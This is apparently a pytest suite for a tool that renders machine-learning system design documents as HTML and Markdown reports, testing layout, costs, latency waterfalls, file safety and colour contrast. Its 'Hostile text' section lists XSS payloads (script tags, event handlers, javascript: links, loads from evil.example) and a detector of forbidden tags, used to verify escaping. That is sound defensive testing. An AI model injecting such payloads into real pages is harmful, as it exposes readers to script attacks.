import math
import os
import re
import subprocess
import sys
from datetime import date
from html.parser import HTMLParser
from itertools import count, pairwise
from pathlib import Path
from typing import Literal, get_args, get_origin

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from mlsd_helpers.design import Design, DesignError
from mlsd_helpers.design.report import to_html, to_markdown
from mlsd_helpers.design.schema import SECTIONS, Document, part_class
from mlsd_helpers.design.schema.base import Name
from mlsd_helpers.design.schema.units import label_of

CHROMIUM = Path("/usr/bin/chromium")
CHROMIUM_FLAGS = [
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]

PAYLOADS = (
    "<script>window.hacked = 1</script>",
    "<img src=x onerror=\"window.hacked = 1\">",
    "\"><svg onload='window.hacked = 1'><iframe src=https://evil.example/></iframe>",
    "</style></title></table><script src=https://evil.example/x.js></script>",
    "[go](javascript:window.hacked=1) ![i](https://evil.example/i.png)",
    "# heading\n- item\n> quote\n| a | b |\n| --- | --- |\n    code\n```\nfence\n```\n<b>x</b>",
    "a | b \\| c \\ `code` *bold* __strong__ ~~gone~~ &lt;script&gt; <!-- x -->",
    "[ref]: javascript:alert(1)\n\n[ref] <javascript:alert(1)> javascript:alert(1) data:text/html,x",
    "{{ 7 * 7 }} {% raw %} ${7*7} $$x$$ https://evil.example/\" onmouseover=\"window.hacked=1",
    "<a href=\"javascript:window.hacked=1\">x</a> \u202eevil\u202c <meta http-equiv=refresh content=0;url=//a.example>",
    "<link rel=stylesheet href=//evil.example/x.css><style>@import '//evil.example';</style><form action=//a.example>",
)  # fmt: skip


# Of each piece of text: the text, its colour, and the colour that it stands on
COLOURS = """() => {
    const filled = element => {
        const box = element.closest("g")?.querySelector("rect") ?? element.closest("svg")?.querySelector(".group");
        if (box) return getComputedStyle(box).fill;
        for (let around = element; around; around = around.parentElement) {
            const colour = getComputedStyle(around).backgroundColor;
            if (colour !== "rgba(0, 0, 0, 0)") return colour;
        }
    };
    const pairs = {};
    for (const element of document.body.querySelectorAll("*")) {
        const text = [...element.childNodes].filter(node => node.nodeType === 3 && node.data.trim());
        if (!text.length || element.closest("title")) continue;
        const style = getComputedStyle(element);
        const ink = element.closest("svg") ? style.fill : style.color;
        pairs[ink + filled(element)] = [text[0].data.trim(), ink, filled(element)];
    }
    return Object.values(pairs);
}"""


def contrast(one, other):
    """Contrast of two colours of a browser, from 1 to 21: https://www.w3.org/TR/WCAG22/#dfn-contrast-ratio"""

    def luminance(colour):
        shares = [int(part) / 255 for part in re.findall(r"\d+", colour)[:3]]
        linear = [share / 12.92 if share <= 0.04045 else ((share + 0.055) / 1.055) ** 2.4 for share in shares]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    darker, lighter = sorted([luminance(one), luminance(other)])
    return (lighter + 0.05) / (darker + 0.05)


class Filler:
    """Makes a document in which every field of the schema has a value; `text(n)` makes the n-th text."""

    def __init__(self, text):
        self.text, self.numbers, self.leaves = text, count(1), []

    def part(self, model):
        return {name: self.field(name, field) for name, field in model.model_fields.items() if name != "schema_version"}

    def field(self, name, field):
        part = part_class(field.annotation)
        if part is not None:
            is_list = list in map(get_origin, _inside(field.annotation))
            return [self.part(part), self.part(part)] if is_list else self.part(part)
        value = self.value(field.annotation, field.metadata)
        if get_origin(value) is None:
            self.leaves.append((name, value))
        return value

    def value(self, annotation, bounds=()):
        n = next(self.numbers)
        inside = [annotation, *_inside(annotation)]
        bounds = [*bounds, *(bound for item in inside for bound in getattr(item, "__metadata__", ()))]
        bounds = [each for bound in bounds for each in (bound, *getattr(bound, "metadata", ()))]
        choices = next((get_args(item) for item in inside if get_origin(item) is Literal), None)
        if dict in map(get_origin, inside):
            return {self.text(n): self.text(n + 10_000)}
        is_list = list in map(get_origin, inside)
        if choices:
            one = choices[0]
        elif Name in inside or any(getattr(bound, "pattern", None) for bound in bounds):
            one = f"name_{n}_x"
        elif str in inside:
            one = self.text(n)
        elif date in inside:
            one = f"2090-01-{n % 28 + 1:02d}"
        elif bool in inside:
            one = True
        elif any(getattr(bound, side, 2) <= 1 for bound in bounds for side in ("le", "lt")):
            one = 0.5 + n / 100_000
        elif float in inside:
            one = 2_000.5 + n
        else:
            one = 3_000 + n
        return [one] if is_list else one


def _inside(annotation):
    for arg in get_args(annotation):
        yield arg
        yield from _inside(arg)


def full_design(text=lambda n: f"text {n}."):
    filler = Filler(text)
    data = filler.part(Document)
    design = Design.new("full")
    for name, value in data.items():
        setattr(design, name, value)
    return design, filler.leaves


class Page(HTMLParser):
    """What a browser would make of a page: its text, its elements and their attributes."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements, self.texts, self.open = [], [], []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self.open.append(tag)

    def handle_endtag(self, tag):
        self.open.pop() if self.open and self.open[-1] == tag else None

    def handle_data(self, data):
        if self.open[-1:] != ["style"]:
            self.texts.append(data)

    @property
    def text(self):
        return squeezed("".join(self.texts))


def squeezed(text):
    return re.sub(r"\s+", "", text)


def html_of_markdown(text):
    return MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(text)


def pages(design):
    return {"html": Page(to_html(design)), "md": Page(html_of_markdown(to_markdown(design)))}


def shown(value):
    """A value as a reader expects it, written down here a second time on purpose."""
    if value is True:
        return "yes"
    if isinstance(value, list):
        return ", ".join(map(shown, value))
    if isinstance(value, (int, float)):
        return f"{value:,}"
    return value


def as_letters(text):
    return re.sub(r"[\W_]+", "", text).lower()


@pytest.fixture(scope="module")
def full():
    return full_design()


@pytest.fixture(scope="module")
def full_pages(full):
    return pages(full[0])


@pytest.mark.parametrize("form", ["html", "md"])
def test_every_field_of_a_full_document_is_in_the_report(full, full_pages, form):
    text = as_letters(full_pages[form].text)
    absent = []
    for name, value in full[1]:
        texts = [*value, *value.values()] if isinstance(value, dict) else [label_of(name), shown(value)]
        placed = name in (
            "name",
            "authors",
            "status",
            "case",
            "overview",
            "open_questions",
        )  # shown without their label
        absent += [(name, part) for part in texts[placed:] if as_letters(part) not in text]
    assert absent == []


def test_the_full_document_of_these_tests_leaves_no_field_out(full):
    def empty(part, path):
        for name in type(part).model_fields:
            value = getattr(part, name)
            for item in value if isinstance(value, list) else [value]:
                if item in (None, "", {}):
                    yield f"{path}.{name}"
                elif hasattr(item, "model_fields_set"):
                    yield from empty(item, f"{path}.{name}")

    assert list(empty(full[0].document, "")) == []


def test_numbers_have_thousands_separators_and_units():
    design = Design.new("x")
    design.requirements.monthly_budget_usd = 1234567.5
    design.requirements.freshness_minutes = 1
    for page in pages(design).values():
        assert squeezed("Monthly budget") in page.text
        assert squeezed("1,234,567.5 US dollars") in page.text
        assert re.search("Freshness:?1minute(?!s)", page.text)


def test_the_summary_shows_the_numbers_that_are_given_and_no_others():
    design = Design.new("x")
    design.requirements.availability_target = 0.999
    design.requirements.success_metric = {"name": "Rebooked", "baseline": 0.2, "target": 0.25, "measured_in": "share"}
    for page in pages(design).values():
        assert "0.2→0.25" in page.text
        assert squeezed("99.9 %") in page.text
        assert squeezed("43.2 minutes down in a month of 30 days") in page.text  # 43,200 × 0.001
        assert "Budget" not in page.text
        assert squeezed("Peak load") not in page.text


def test_the_peak_is_computed_when_only_its_parts_are_given():
    design = Design.new("x")
    design.requirements = {"users_per_day": 1e6, "requests_per_user_per_day": 4, "peak_factor": 3}
    assert squeezed("about 139 requests a second") in Page(to_html(design)).text  # 4,000,000 ÷ 86,400 × 3 = 138.9


def test_columns_that_nobody_filled_in_are_left_out_and_numbers_stand_right():
    design = Design.new("x")
    design.high_level_design.components = [{"name": "gateway", "latency_p50_ms": 2}, {"name": "model", "fan_out": 3}]
    markdown = to_markdown(design)
    assert "| Name | Fan out | Latency p50, milliseconds |" in markdown
    assert "| --- | ---: | ---: |" in markdown
    assert "| gateway | – | 2 |" in markdown
    heads = [
        attrs.get("class") for tag, attrs in Page(to_html(design)).elements if tag == "th" and attrs["scope"] == "col"
    ]
    assert heads[:3] == [None, "number", "number"]


def test_a_wide_table_goes_on_in_a_second_one_with_the_names_repeated(full):
    tables = re.findall(r"^\*\*Components.*\*\*\n\n(\|.*\|)$", to_markdown(full[0]), re.M)
    assert len(tables) > 1
    assert all(head.startswith("| Name |") for head in tables)


def test_findings_come_worst_first_with_arithmetic_remedy_and_lesson():
    design = Design.new("x")
    design.requirements = {
        "success_metric": {"better": "higher", "baseline": 0.5, "target": 0.25},
        "problem": "p", "users": "u", "decision": "d",
    }  # fmt: skip
    findings = design.check()
    for page in pages(design).values():
        places = [
            page.text.index(finding.name + ("(" if "(" + finding.code in page.text else "")) for finding in findings
        ]
        assert places == sorted(places)
        for finding in findings:
            assert squeezed(finding.message) in page.text
            assert squeezed(finding.remedy) in page.text
            assert finding.link.partition("#")[0] in page.text
        for item in findings.missing:
            assert item.path in page.text


def test_a_waiver_is_shown_with_its_reason_and_what_it_accepts():
    design = Design.new("x")
    design.requirements.problem = "Late flights."
    design.waivers = [{"rule": "no-budget", "reason": "Paid by the airport."}]
    for page in pages(design).values():
        assert squeezed("Paid by the airport.") in page.text
        assert squeezed("no-budget (R008)") in page.text


def test_sections_not_begun_are_named():
    design = Design.new("x")
    design.requirements.problem = "Late flights."
    names = "High-level design, Features, Infrastructure, Modeling, Leveling."
    for page in pages(design).values():
        assert squeezed(names) in page.text


def test_only_web_addresses_in_references_are_links():
    design = Design.new("x")
    design.references = ["Rules (https://example.org/rules_of-ml), p. 3", "javascript:alert(1)", "HTTP://example.org/A"]
    for page in pages(design).values():
        links = [attrs["href"] for tag, attrs in page.elements if tag == "a" and not attrs["href"].startswith("#")]
        assert [link for link in links if "example.org" in link] == [
            "https://example.org/rules_of-ml",
            "HTTP://example.org/A",
        ]
        assert not [link for link in links if "javascript" in link]


def test_the_same_document_gives_the_same_bytes(tmp_path):
    design, _ = full_design()
    design.save(tmp_path / "a.yaml")
    for name in ("r.html", "r.md"):
        first = design.report(tmp_path / name).read_bytes()
        assert Design.open(tmp_path / "a.yaml").report(tmp_path / name).read_bytes() == first


def test_a_document_at_any_stage_has_a_report(full):
    design = Design.new("full")
    to_html(design), to_markdown(design)
    for name in SECTIONS:
        section = getattr(full[0].document, name)
        for field in type(section).model_fields:
            setattr(getattr(design, name), field, getattr(section, field))
            to_html(design), to_markdown(design)


@given(st.data())
@settings(max_examples=60, deadline=None, suppress_health_check=list(HealthCheck))
def test_any_document_that_the_schema_accepts_has_a_report(filled_documents, data):
    design = Design(Document.model_validate(data.draw(filled_documents)))
    assert dangers(Page(to_html(design))) == []
    to_markdown(design)


@pytest.mark.parametrize("name", SECTIONS)
def test_a_section_alone_with_blank_values_has_a_report(name):
    design = Design.new("x")
    section = getattr(design, name)
    for field, info in type(section).model_fields.items():
        if str in (info.annotation, *get_args(info.annotation)):
            setattr(section, field, "  ")
        elif list in map(get_origin, _inside(info.annotation)):
            setattr(section, field, [])
    design.risks = [{"risk": ""}]
    design.glossary = {"": ""}
    pages(design)


# Pictures


def rows_below(markdown, heading):
    """The cells of the first table below a heading, without its head."""
    lines = markdown.partition(f"\n### {heading}\n")[2] or markdown.partition(f"\n## {heading}\n")[2]
    table = re.search(r"(?:^\|.*\n)+", lines, re.M)[0].splitlines()[2:]
    return [[cell.strip() for cell in line.strip("|").split("|")] for line in table]


def test_the_complete_document_shows_sections_and_pictures_in_order(complete):
    headings = re.findall(r"^##+ (.+)$", to_markdown(complete), re.M)
    wanted = [
        *("Context", "Requirements", "High-level design", "Diagram", "Latency waterfall", "Features", "Infrastructure"),
        *("Cost breakdown", "Modeling", "Leveling", "Findings", "Alternatives, risks and delivery"),
    ]
    assert [heading for heading in headings if heading in wanted] == wanted


def test_the_contents_name_the_pictures_and_lead_to_them(complete):
    elements = Page(to_html(complete)).elements
    ids = {attrs["id"] for _, attrs in elements if "id" in attrs}
    links = {attrs["href"][1:] for tag, attrs in elements if tag == "a" and attrs["href"].startswith("#")}
    assert {"diagram", "latency-waterfall", "cost-breakdown"} <= links <= ids


def test_the_diagram_is_mermaid_in_markdown_and_svg_in_html(complete):
    assert f"\n```mermaid\n{complete.diagram().mermaid}```\n" in to_markdown(complete)
    html = to_html(complete)
    assert html.count('<svg xmlns="http://www.w3.org/2000/svg" class="diagram"') == 1
    assert all(f">{part.name}</text>" in html for part in complete.high_level_design.components)


def test_the_waterfall_shows_when_each_component_starts_and_what_is_critical(complete):
    sigma = math.log(2 / 0.5) / 2.3263478740408408  # calibration: p50 0.5, p99 2, the slowest of 4 copies
    slowest = 0.5 * math.exp(sigma * 2.8059)  # 0.99^(1/4) = 0.997491, the normal quantile of which is 2.8059
    text = to_markdown(complete)
    assert [(name, start, p99) for name, _, start, p99 in rows_below(text, "Latency waterfall")] == [
        ("gateway", "0", "**12**"),
        ("↳ feature_store", "12", "**20**"),
        ("↳ scorer", "32", "**40**"),
        ("· ↳ calibration × 4", "72", f"**{slowest:.1f}**"),
    ]
    assert f"{12 + 20 + 40 + slowest:.1f} ms on the critical path, against a budget of 200 ms" in text


def test_the_waterfall_of_parallel_calls_starts_them_together_and_the_longest_is_critical(complete):
    complete.high_level_design.components[0].calls_in = "parallel"
    rows = rows_below(to_markdown(complete), "Latency waterfall")
    assert [(name, start, p99) for name, _, start, p99 in rows[:3]] == [
        ("gateway", "0", "**12**"),
        ("↳ feature_store", "12", "20"),  # beside the 40 ms of scorer
        ("↳ scorer", "12", "**40**"),
    ]


def test_bars_of_the_waterfall_have_room_for_the_budget_or_for_the_path_when_that_is_longer():
    design = Design.new("x")
    stage = {"latency_p50_ms": 10, "path": "serving"}
    design.high_level_design.components = [
        {"name": "api", "latency_p99_ms": 20, "calls": ["model"], **stage},
        {"name": "model", "latency_p99_ms": 60, **stage},
    ]

    def bars():
        table = to_html(design).partition('id="latency-waterfall"')[2].partition("</table>")[0]
        svgs = re.findall(r' x="(\S+)" width="(\S+)" y="1".*?(?:<line x1="(\S+)"|</svg>)', table)
        return [(float(x), float(width), line) for x, width, line in svgs]

    assert bars() == [(0, 250, ""), (250, 750, "")]  # 20 and 60 of 80 ms, in thousandths
    design.requirements.latency_p99_ms = 160
    assert bars() == [(0, 125, "1000.0"), (125, 375, "1000.0")]
    design.requirements.latency_p99_ms = 40
    assert bars() == [(0, 250, "500.0"), (250, 750, "500.0")]


@pytest.mark.parametrize("without", ["latency_p50_ms", "latency_p99_ms"])
def test_without_all_latencies_there_is_no_waterfall(without):
    design = Design.new("x")
    design.high_level_design.components = [{"name": "api", "latency_p50_ms": 1, "latency_p99_ms": 2}]
    setattr(design.high_level_design.components[0], without, None)
    assert "Latency waterfall" not in to_markdown(design)
    assert "Diagram" in to_markdown(design)


def test_a_design_with_a_circle_of_calls_has_a_diagram_and_no_waterfall():
    design = Design.new("x")
    parts = {"latency_p50_ms": 1, "latency_p99_ms": 2, "path": "serving"}
    design.high_level_design = {
        "entry_point": "a",
        "components": [{"name": "a", "calls": ["b"], **parts}, {"name": "b", "calls": ["a"], **parts}],
    }
    text = to_markdown(design)
    assert "Diagram" in text
    assert "Latency waterfall" not in text


def test_latencies_that_no_float_can_hold_leave_the_waterfall_out():
    design = Design.new("x")
    design.high_level_design.components = [
        {"name": "a", "path": "serving", "latency_p50_ms": 1e-300, "latency_p99_ms": 1e15, "fan_out": 10**9}
    ]
    text = to_markdown(design)
    assert "Diagram" in text
    assert "Latency waterfall" not in text


def test_costs_are_worked_out_part_by_part_the_dearest_first(complete):
    complete.requirements.monthly_budget_usd = 2000
    text = to_markdown(complete)
    rows = [(part, how, usd) for part, _, how, usd in rows_below(text, "Cost breakdown")]
    assert rows == [
        ("feature_store", "4 × 0.3 USD × 720 h", "864"),
        ("scorer", "4 × 0.2 USD × 720 h", "576"),
        ("Other", "as stated", "300"),
        ("gateway", "4 × 0.1 USD × 720 h", "288"),
        ("calibration", "2 × 0.05 USD × 720 h", "72"),
        ("Transfer", "500 GB × 0.09 USD", "45"),
        ("Storage", "400 GB × 0.1 USD", "40"),
    ]
    total = 864 + 576 + 300 + 288 + 72 + 45 + 40
    thousand = total / (30 * 200_000 * 2 / 1000)
    assert f"{total:,} US dollars a month of 30 days, {total - 2000} over the budget of 2,000" in text
    assert f"{thousand:.3f} US dollars for 1,000 decisions" in text
    assert f"The dearest part, feature_store, is {100 * 864 / total:.0f} % of it" in text
    assert any(finding.code == "I003" and f"{total:,} USD a month" in finding.message for finding in complete.check())


def test_costs_that_lack_a_price_are_a_lower_bound_and_say_so():
    design = Design.new("x")
    design.infrastructure.services = [
        {"name": "a", "replicas": 2, "price_usd_per_hour": 1},
        {"name": "b", "replicas": 2},
    ]
    text = to_markdown(design)
    assert "1,440 US dollars a month of 30 days at least" in text
    assert "a number is missing: infrastructure.services.b.price_usd_per_hour" in text


def test_infrastructure_without_prices_has_no_cost_breakdown():
    design = Design.new("x")
    design.infrastructure.services = [{"name": "a", "replicas": 2}]
    assert "Cost breakdown" not in to_markdown(design)


def test_headroom_shows_what_breaks_first_on_top_and_how_far_it_is(complete, monkeypatch):
    rows = [
        ("queue-over-latency", "peak load", 1.8, "1.8 ×"),
        ("lift-not-visible", "days", 10.0, "÷ 10"),
        ("no-room", "errors", None, "from 0"),
    ]
    monkeypatch.setattr("mlsd_helpers.design.report.content._headroom_rows", lambda design: rows)
    shown_rows = rows_below(to_markdown(complete), "Headroom")
    assert [[cells[0], *cells[2:]] for cells in shown_rows] == [
        ["queue-over-latency", "peak load", "1.8 ×"],
        ["lift-not-visible", "days", "÷ 10"],
        ["no-room", "errors", "from 0"],
    ]
    # A full bar of 24 cells is a factor of ten either way: log10(1.8) × 24 = 6.1
    assert [cells[1].count("█") for cells in shown_rows] == [6, 24, 24]
    assert 'href="#headroom"' in to_html(complete)


def test_more_components_than_a_diagram_can_show_are_counted():
    design = Design.new("x")
    design.high_level_design.components = [{"name": f"c{i}"} for i in range(101)]
    for page in pages(design).values():
        assert squeezed("101 components: more than a diagram can show.") in page.text


# Hostile text


FORBIDDEN = {"script", "img", "iframe", "object", "embed", "form", "link", "base", "audio", "video", "input", "use"}
FORBIDDEN |= {"image", "foreignobject", "animate", "set"}


def dangers(page):
    found = [tag for tag, _ in page.elements if tag in FORBIDDEN]
    for _, attrs in page.elements:
        attrs = {name: value for name, value in attrs.items() if (name, value) != ("style", "text-align:right")}
        found += [name for name in attrs if name.startswith("on") or name in ("src", "srcset", "style", "action")]
        found += [name for name in attrs if name.startswith("xlink")]
        href = attrs.get("href", "#")
        found += [href] if not re.match(r"#|https?://", href) else []
    return found


def as_long(payload):
    """Harmless text of the same shape, because the length decides between a line and a paragraph."""
    return re.sub(r"\S", "w", payload)


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("form", ["html", "md"])
def test_hostile_text_in_every_field_is_shown_as_text_and_does_nothing(payload, form):
    design, _ = full_design(lambda n: payload if n % 2 else f"before {payload}")
    page = pages(design)[form]
    assert dangers(page) == []
    assert sum(tag == "meta" for tag, _ in page.elements) == (4 if form == "html" else 0)
    assert sum(tag == "style" for tag, _ in page.elements) == (1 if form == "html" else 0)
    assert squeezed(payload) in page.text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_makes_no_markdown_of_its_own(payload):
    def elements(text):
        html = html_of_markdown(to_markdown(full_design(lambda n: text)[0]))
        return [tag for tag, _ in Page(html).elements if tag != "a"]  # web addresses in lists are links

    assert elements(payload) == elements(as_long(payload))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_makes_no_html_of_its_own(payload):
    def elements(text):
        found = Page(to_html(full_design(lambda n: text)[0])).elements
        return [(tag, sorted(attrs)) for tag, attrs in found if tag != "a"]

    assert elements(payload) == elements(as_long(payload))


@pytest.mark.parametrize(
    "payload", ["1. one\n2) two", "=====", "-----", "+ plus", ":-- | --:", "  \tindented", "www.a.example"]
)
def test_a_line_that_looks_like_markdown_stays_a_line(payload):
    design = Design.new("x")
    design.overview = payload
    rendered = html_of_markdown(to_markdown(design))
    paragraph = rendered.split("<p>")[2].split("</p>")[0].replace("<br>", "\n")
    assert squeezed(paragraph) == squeezed(payload)
    assert "<ol" not in rendered
    assert rendered.count("<hr") == 1


def test_lines_that_an_editor_wrapped_flow_and_short_ones_stay():
    design = Design.new("x")
    wrapped = "Each night every logger records sound, and in the morning the planner has\na list of places."
    design.overview = f"{wrapped}\n\nplanners\nsurveyors"
    page = to_html(design)
    assert wrapped.replace("\n", " ") in page
    assert "planners\nsurveyors" in page


def test_the_budget_stands_beside_what_it_costs():
    design = Design.new("x")
    design.requirements.monthly_budget_usd = 1000
    assert "US dollars a month" in to_html(design)
    assert "running it costs" not in to_html(design)
    # 2 × 0.5 USD × 720 hours = 720 USD
    design.infrastructure.services = [{"name": "a", "replicas": 2, "price_usd_per_hour": 0.5}]
    assert "US dollars a month; running it costs 720" in to_html(design)
    design.infrastructure.storage_gb = 5
    assert "US dollars a month; running it costs at least 720" in to_html(design)


def test_right_to_left_text_emoji_and_umlauts_come_through():
    design = Design.new("x")
    design.overview = "שלום عالم 😀 Verspätung Ærø"
    for page in pages(design).values():
        assert squeezed(design.overview) in page.text


def test_the_page_forbids_scripts_and_network_by_its_own_policy():
    page = Page(to_html(Design.new("x")))
    policies = [attrs["content"] for _, attrs in page.elements if attrs.get("http-equiv") == "Content-Security-Policy"]
    assert policies == ["default-src 'none'; style-src 'unsafe-inline'; img-src data:"]
    assert "@import" not in to_html(Design.new("x"))
    assert "url(" not in to_html(Design.new("x"))


def test_headings_go_down_one_step_at_a_time(full_pages):
    levels = [int(tag[1]) for tag, _ in full_pages["html"].elements if re.fullmatch("h[1-6]", tag)]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after - before <= 1 or (before, after) == (2, 4) for before, after in pairwise(levels))


def test_each_entry_of_the_contents_leads_somewhere(full_pages):
    elements = full_pages["html"].elements
    ids = [attrs["id"] for _, attrs in elements if "id" in attrs]
    inner = [attrs["href"][1:] for tag, attrs in elements if tag == "a" and attrs["href"].startswith("#")]
    assert len(ids) == len(set(ids))
    assert inner
    assert set(inner) <= set(ids)


# Where the report goes


def test_without_a_path_the_report_goes_beside_the_document(tmp_path):
    design = Design.new("x")
    design.save(tmp_path / "delays.yaml")
    assert design.report() == tmp_path / "delays.report.html"
    assert (tmp_path / "delays.report.html").read_text(encoding="utf-8") == to_html(design)


def test_without_a_path_and_a_file_the_report_goes_to_the_current_folder(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert Design.new("delays").report() == Path("delays.report.html")
    assert (tmp_path / "delays.report.html").is_file()


def test_an_earlier_report_is_replaced(tmp_path):
    design = Design.new("x")
    design.report(tmp_path / "r.md")
    design.overview = "New words."
    assert "New words." in design.report(tmp_path / "r.md").read_text(encoding="utf-8")
    assert [path.name for path in tmp_path.iterdir()] == ["r.md"]


@pytest.mark.parametrize("name", ["r.pdf", "r", "r.yaml", "r.html.txt"])
def test_another_ending_is_refused_and_nothing_is_written(tmp_path, name):
    with pytest.raises(DesignError, match=r"ends in \.html or \.md"):
        Design.new("x").report(tmp_path / name)
    assert list(tmp_path.iterdir()) == []


def test_the_design_document_itself_is_never_overwritten(tmp_path):
    (tmp_path / "doc.md").write_text("schema_version: 1\nname: x\n")
    design = Design.open(tmp_path / "doc.md")
    os.link(tmp_path / "doc.md", tmp_path / "r.html")
    for name in ("doc.md", "r.html"):
        with pytest.raises(DesignError, match="the design document itself"):
            design.report(tmp_path / name)
    assert (tmp_path / "doc.md").read_text() == "schema_version: 1\nname: x\n"


def test_a_link_to_another_kind_of_file_is_not_followed(tmp_path):
    (tmp_path / "keep.txt").write_text("keep")
    (tmp_path / "r.html").symlink_to(tmp_path / "keep.txt")
    with pytest.raises(DesignError, match=r"link to keep\.txt"):
        Design.new("x").report(tmp_path / "r.html")
    assert (tmp_path / "keep.txt").read_text() == "keep"


def test_a_folder_of_that_name_is_refused(tmp_path):
    (tmp_path / "r.html").mkdir()
    with pytest.raises(DesignError, match="not an ordinary file"):
        Design.new("x").report(tmp_path / "r.html")


def test_a_path_below_a_file_is_a_clear_error(tmp_path):
    (tmp_path / "file").write_text("")
    with pytest.raises(DesignError, match="cannot be written"):
        Design.new("x").report(tmp_path / "file" / "r.html")


def test_design_is_imported_without_the_template_engine():
    code = "import sys, mlsd_helpers.design; sys.exit('jinja2' in sys.modules)"
    assert subprocess.run([sys.executable, "-c", code], check=False).returncode == 0


# In a real browser


@pytest.fixture(scope="module")
def chromium():
    if not CHROMIUM.exists():
        if os.environ.get("CI"):
            pytest.fail(f"{CHROMIUM} is missing; install Chromium (Debian: apt-get install chromium)")
        pytest.skip(f"{CHROMIUM} is missing")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_FLAGS)
        yield browser
        browser.close()


@pytest.mark.browser
def test_chromium_runs_no_script_and_asks_for_nothing(tmp_path, chromium):
    design, _ = full_design(lambda n: PAYLOADS[n % len(PAYLOADS)])
    page_file = design.report(tmp_path / "r.html")
    pictures = to_html(full_design()[0]).count("<svg")
    asked, said = [], []
    page = chromium.new_page()
    page.on("request", lambda request: asked.append(request.url))
    page.on("console", lambda message: said.append(message.text))
    page.on("dialog", lambda dialog: (said.append(dialog.message), dialog.dismiss()))
    page.goto(page_file.as_uri())
    page.mouse.move(200, 200)
    page.emulate_media(media="print")
    hacked = page.evaluate("window.hacked")
    active = page.evaluate("document.querySelectorAll('script, img, iframe, form, link, object, image').length")
    drawn = page.evaluate("document.querySelectorAll('svg').length")
    shown_text = page.inner_text("main")
    page.close()
    assert (hacked, active) == (None, 0)
    assert drawn == pictures > 0
    assert asked == [page_file.as_uri()]
    assert said == []
    assert "window.hacked = 1" in shown_text


@pytest.mark.browser
@pytest.mark.parametrize("which", ["complete", "every field"])
@pytest.mark.parametrize(
    ("media", "width"),
    [("print", 672), ("screen", 360), ("screen", 1200)],  # A4 less its margins is 178 mm, 672 pixels
)
def test_in_chromium_nothing_is_cut_off_at_the_side(chromium, tmp_path, complete, full, which, media, width):
    design = complete if which == "complete" else full[0]
    page = chromium.new_page(viewport={"width": width, "height": 900})
    page.emulate_media(media=media)
    page.goto(design.report(tmp_path / "r.html").as_uri())
    room, needed = page.evaluate("[document.documentElement.clientWidth, document.documentElement.scrollWidth]")
    page.close()
    assert needed <= room


@pytest.mark.browser
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_in_chromium_all_text_of_the_report_stands_out_from_its_ground(chromium, tmp_path, complete, scheme):
    page = chromium.new_page(color_scheme=scheme)
    page.goto(complete.report(tmp_path / "r.html").as_uri())
    pairs = page.evaluate(COLOURS)
    page.close()
    assert len(pairs) > 5
    faint = [(text, contrast(ink, ground)) for text, ink, ground in pairs if contrast(ink, ground) < 4.5]
    assert faint == []  # https://www.w3.org/TR/WCAG22/#contrast-minimum
